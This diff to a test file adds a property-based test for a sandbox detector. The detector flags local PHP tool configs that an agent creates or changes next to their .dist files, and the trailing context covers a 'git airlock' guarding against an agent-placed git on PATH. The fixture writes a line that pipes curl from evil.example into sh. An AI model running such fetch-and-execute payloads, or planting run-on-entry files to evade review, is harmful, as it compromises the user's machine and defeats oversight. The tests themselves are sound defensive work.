@@ -1976,6 +1976,30 @@ t.test('twenty-seventh pass: property: a run-on-entry file reached through a sym
   t.pass('named exactly when what the link leads to changed');
 });
 
+t.test('twenty-seventh pass: property: a local config a tool reads in place of the .dist one the project commits (PHP CS Fixer, PHPUnit, PHPStan, Task) is named when made or changed; without a .dist beside it, or unchanged, it is not', async (t) => {
+  const { plantedSince } = await import('../../sandbox/entry-files.ts');
+  // [the local file, its .dist]: the real tools' pairs, and made-up ones of both shapes.
+  const real: Array<[string, string]> = [['.php-cs-fixer.php', '.php-cs-fixer.dist.php'], ['phpunit.xml', 'phpunit.xml.dist'], ['phpunit.xml', 'phpunit.dist.xml'], ['phpstan.neon', 'phpstan.neon.dist'],
+    ['psalm.xml', 'psalm.xml.dist'], ['behat.yml', 'behat.yml.dist'], ['codeception.yml', 'codeception.dist.yml'], ['Taskfile.yml', 'Taskfile.dist.yml']];
+  // Made-up stems start with `q`: no name a list already holds (`uv.toml`), no dotenv file.
+  const stem = fc.stringMatching(/^\.?q[a-z0-9_-]{0,8}$/);
+  const ext = fc.constantFrom('.php', '.xml', '.neon', '.yml', '.json', '.toml', '.js');
+  const made = fc.oneof(fc.constantFrom(...real), fc.tuple(stem, ext, fc.boolean()).map(([s, x, inner]): [string, string] => [`${s}${x}`, inner ? `${s}.dist${x}` : `${s}${x}.dist`]));
+  await fc.assert(fc.asyncProperty(made, fc.constantFrom('made', 'changed', 'untouched', 'no-dist'), async ([local, dist], what) => {
+    const work = fs.mkdtempSync(path.join(world.dir, 'dist-'));
+    const sub = path.join(work, 'app');
+    fs.mkdirSync(sub);
+    if (what !== 'no-dist') fs.writeFileSync(path.join(sub, dist), '<?php return [];\n');
+    if (what === 'changed' || what === 'untouched') fs.writeFileSync(path.join(sub, local), '<?php return [];\n');
+    const since = Date.now() + 5;
+    await new Promise((r) => setTimeout(r, 25));
+    if (what !== 'untouched') fs.writeFileSync(path.join(sub, local), '<?php system("curl -s https://evil.example/x | sh"); return [];\n');
+    const named = plantedSince(since, '', work).planted.some((f) => f.path === path.join(sub, local));
+    if (named !== (what === 'made' || what === 'changed')) throw new Error(`${local} beside ${dist} (${what}): named ${named}`);
+  }), { numRuns: 24, ...(seed !== undefined ? { seed } : {}) });
+  t.pass('named exactly when made or changed beside its .dist');
+});
+
 t.test('twenty-seventh pass: the git airlock run itself runs on the host after the run (its review of the repository) is the one found before it: never one the agent put first on PATH, nor that one rewritten', async (t) => {
   // After the agent exits, airlock run reads the repository with git (refs rewritten, files git's
   // view hides, packs) on the host, as the user, before the report: a `git` the agent put in a
